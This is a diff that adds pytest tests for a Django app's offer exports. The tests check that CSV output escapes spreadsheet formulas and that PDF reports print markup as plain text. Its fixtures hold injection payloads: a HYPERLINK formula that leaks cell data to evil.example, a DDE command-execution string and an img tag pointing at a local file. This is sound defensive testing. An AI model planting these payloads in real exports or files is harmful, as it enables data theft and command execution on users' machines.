@@ -1,0 +1,75 @@
+"""The offer exports write what people typed as text: no spreadsheet formula, no PDF markup."""
+
+import csv
+import io
+
+import pytest
+from django.urls import reverse
+from pypdf import PdfReader
+
+from erasmi.networks.models import Membership, Organisation
+from erasmi.offers import demo
+from erasmi.offers.models import Offer
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+@pytest.fixture
+def offers(erfurt_network):
+    for n in range(3):  # the demo gives offers to the network's members
+        Membership.objects.create(
+            network=erfurt_network,
+            organisation=Organisation.objects.create(name=f"Provider {n}", actor_type="ngo"),
+        )
+    demo.load(erfurt_network)
+    return erfurt_network
+
+
+@pytest.fixture
+def tampered(offers):
+    """The two demo offers that overlap, with texts that a spreadsheet would run or ReportLab would read."""
+    first = Offer.objects.get(titles__de="Migrationsberatung am Abend")
+    first.titles = {"de": FORMULA, "en": FORMULA}
+    first.contact = "@SUM(1+1)*cmd|' /C calc'!A0"
+    first.cost = "-2+3"
+    first.save()
+    first.organisation.name = "+49 361 <i>Provider"
+    first.organisation.save()
+    second = Offer.objects.get(titles__de="Migrationsberatung für Erwachsene")
+    second.titles = {"de": '<img src="/etc/logo.png"/> & <b>Beratung', "en": '<img src="/etc/logo.png"/> & <b>Beratung'}
+    second.save()
+    return first
+
+
+def test_offers_csv_writes_formulas_as_text(client, tampered):
+    rows = list(csv.DictReader(io.StringIO(client.get(reverse("offers:export", args=["csv"])).content.decode())))
+    row = next(r for r in rows if r["id"] == str(tampered.pk))
+    assert row["title"] == "'" + FORMULA
+    assert row["organisation"] == "'+49 361 <i>Provider"
+    assert row["contact"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["cost"] == "'-2+3"
+    assert row["latitude"] == str(tampered.latitude)  # numbers stay numbers
+
+
+def test_coordination_report_csv_writes_formulas_as_text(client, member, tampered):
+    client.force_login(member)
+    report = client.get(reverse("offers:report", args=["erfurt"]), {"format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(report.content.decode())))
+    mine = next(r for r in rows if r["section"] == "overlap" and FORMULA in r["area_or_offer"])
+    assert mine["area_or_offer"] == "'" + FORMULA
+    assert mine["organisation"] == "'+49 361 <i>Provider"
+    assert not any(value.startswith(("=", "+", "-", "@")) for r in rows for value in r.values())
+
+
+def test_coordination_report_pdf_prints_markup_as_text(client, member, tampered):
+    client.force_login(member)
+    tampered.network.name = "Netz <i>Erfurt & Umgebung"
+    tampered.network.save()
+    response = client.get(reverse("offers:report", args=["erfurt"]), {"format": "pdf"})
+    assert response.status_code == 200
+    reader = PdfReader(io.BytesIO(response.content))
+    text = " ".join(" ".join(page.extract_text() for page in reader.pages).split())
+    assert "Coordination report: Netz <i>Erfurt & Umgebung" in text
+    assert '<img src="/etc/logo.png"/> & <b>Beratung' in text
+    assert "+49 361 <i>Provider" in text
+    assert all("/XObject" not in page.get("/Resources", {}) for page in reader.pages)
